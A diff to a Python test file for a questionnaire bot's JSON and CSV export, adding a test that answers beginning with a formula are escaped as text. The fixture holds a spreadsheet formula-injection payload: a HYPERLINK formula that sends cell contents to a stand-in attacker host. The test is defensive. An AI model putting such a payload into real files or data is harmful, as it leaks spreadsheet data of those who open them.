@@ -328,4 +328,19 @@ def test_answers_export_as_json_and_csv(waiting: Running, people: People) -> Non
     assert (website["value"], website["answered_by"]) == ("https://acme.example", people.client.id)
     rows = list(csv.DictReader(io.StringIO(as_csv(exported, waiting.bot.db))))
     assert len(rows) == len(exported["answers"])
-    assert next(r for r in rows if r["question"] == "phone")["value"] == "+442079460958"
+    # Text to a spreadsheet, not a number that loses its + (nor a formula: below).
+    assert next(r for r in rows if r["question"] == "phone")["value"] == "'+442079460958"
+
+
+def test_an_answer_that_reads_as_a_formula_is_exported_as_text(
+    waiting: Running, people: People
+) -> None:
+    # The client types the answers; the team opens the export in a spreadsheet.
+    trap = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the brief")'
+    fill(
+        waiting, people.client.id, start(waiting, people.client.id), {**PAGE_1, "legal-name": trap}
+    )
+    rows = list(
+        csv.DictReader(io.StringIO(as_csv(export(waiting.bot.db, "acme-rockets"), waiting.bot.db)))
+    )
+    assert next(r for r in rows if r["question"] == "legal-name")["value"] == "'" + trap
